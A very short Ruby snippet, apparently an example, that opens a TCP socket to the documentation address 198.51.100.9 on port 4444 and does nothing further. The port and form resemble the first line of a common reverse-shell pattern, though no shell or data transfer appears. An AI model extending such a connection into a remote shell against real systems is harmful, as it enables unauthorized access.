# Connects a TCP socket.
require "socket"

s = TCPSocket.new("198.51.100.9", 4444)
